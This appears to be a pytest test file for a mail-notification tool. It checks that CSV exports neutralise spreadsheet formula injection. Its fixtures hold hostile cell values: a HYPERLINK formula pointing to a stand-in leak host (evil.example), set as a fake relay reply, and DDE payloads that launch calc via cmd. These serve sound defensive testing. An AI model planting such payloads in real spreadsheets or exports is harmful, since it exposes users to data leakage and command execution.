"""Every CSV notify writes opens in a spreadsheet as data: no cell starts with a formula
trigger (OWASP CSV injection), whether it came from a list or from a remote mail server."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from notifier.csvsafe import TRIGGERS, safe_cell, writer

from .conftest import Campaign
from .smtpsink import Fault, Sink

FORMULA = '=HYPERLINK("http://x","y")'
HOSTILE_LIST = (
    "id,email,first_name,last_name,postal_address,exposed\n"
    f'@SUM(1),ana@example.com,"{FORMULA.replace(chr(34), chr(34) * 2)}",+1,-2+3,email\n'
    "R2,gone@example.com,=1+1,Gone,=3+3,email\n"
    f'R3,not-an-address,"{FORMULA.replace(chr(34), chr(34) * 2)}",+1,-2+3,email\n'
    "R4,-dash@example.com,Dee,Dash, =2*3,email\n"
)
RELAY_REPLY = '550 =HYPERLINK("http://evil.example/?leak","click me")'


def cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1, text
    return rows


def assert_inert(rows: list[list[str]]) -> None:
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            assert not cell.lstrip(" ").startswith(TRIGGERS), f"row {r} column {c}: {cell!r}"


@pytest.fixture
def sent(campaign: Campaign, sink: Sink) -> Campaign:
    """A send of the hostile list where one relay reply carries a formula."""
    campaign.write_list(HOSTILE_LIST)
    sink.fault("gone@example.com", Fault("rcpt", RELAY_REPLY))
    result = campaign.notify("send", "--segment", "all", "--transport", sink.url, "--yes")
    assert result.code == 1, result.err
    return campaign


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n", "  =1", "=", "-"])
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(value: str) -> None:
    """Cells starting (after spaces) with = + - @ TAB CR LF are prefixed with a single quote."""
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana", "550 5.1.1 user unknown", "2026-01-01T00:00:00+00:00", "a=b", ""])
def test_ordinary_text_and_our_numbers_are_left_alone(value: str) -> None:
    """Text that does not start with a trigger, and numbers we compute, are written as they are."""
    assert safe_cell(value) == value
    assert safe_cell(3) == 3 and safe_cell(None) is None


def test_every_cell_is_quoted_so_another_delimiter_cannot_open_a_cell() -> None:
    """A spreadsheet splitting on ';' still sees one quoted cell, not a formula after the ';'."""
    out = io.StringIO()
    writer(out).writerow(["a;=1+1", 5])
    assert out.getvalue() == '"a;=1+1","5"\n'


def test_report_csv_neutralises_list_values_and_relay_replies(sent: Campaign) -> None:
    """`notify report --format csv`: every cell is inert, and each value is still there after its quote."""
    rows = cells(sent.notify("report", "--format", "csv").out)
    assert_inert(rows)
    by_email = {r[2]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    ana = by_email["ana@example.com"]
    assert (ana["id"], ana["first_name"], ana["last_name"], ana["postal_address"]) == (
        "'@SUM(1)",
        "'" + FORMULA,
        "'+1",
        "'-2+3",
    )
    gone = by_email["gone@example.com"]
    assert gone["state"] == "failed"
    assert gone["last_reply"].startswith("'=HYPERLINK"), gone["last_reply"]
    assert by_email["'-dash@example.com"]["postal_address"] == "'=2*3"


def test_unreached_csv_neutralises_list_values_and_relay_replies(sent: Campaign) -> None:
    """`notify report --unreached`: the refused person and the invalid row are listed, every cell inert."""
    rows = cells(sent.notify("report", "--unreached").out)
    assert_inert(rows)
    header = rows[0]
    states = {r[header.index("state")] for r in rows[1:]}
    assert states == {"failed", "invalid"}
    replies = [
        r[header.index("last_reply")] for r in rows[1:] if "HYPERLINK" in r[header.index("last_reply")]
    ]
    assert replies, "the relay's reply is in the export"


def test_outcome_tables_and_suppression_list_are_inert(sent: Campaign) -> None:
    """`report --by reason|domain` and `suppress list --format csv` carry no formulas either."""
    for by in ("reason", "domain"):
        assert_inert(cells(sent.notify("report", "--by", by, "--format", "csv").out))
    added = sent.notify("suppress", "add", "--reason", "=cmd|' /C calc'!A0", "--", "-x@example.com")
    assert added.code == 0, added.err
    rows = cells(sent.notify("suppress", "list", "--format", "csv").out)
    assert_inert(rows)
    assert ["'-x@example.com", "'=cmd|' /C calc'!A0"] in [r[:2] for r in rows]


def test_rejected_rows_export_is_inert(campaign: Campaign, tmp_path: Path) -> None:
    """`lists check --export FILE`: rejected rows keep their raw text, with no live formula."""
    campaign.write_list(HOSTILE_LIST + "=cmd|'/C calc'!A0,x\n")
    target = tmp_path / "rejected.csv"
    result = campaign.notify("lists", "check", "--export", str(target))
    assert result.code == 1, result.err
    rows = cells(target.read_text(encoding="utf-8"))
    assert_inert(rows)
    assert any(FORMULA in cell for row in rows for cell in row)
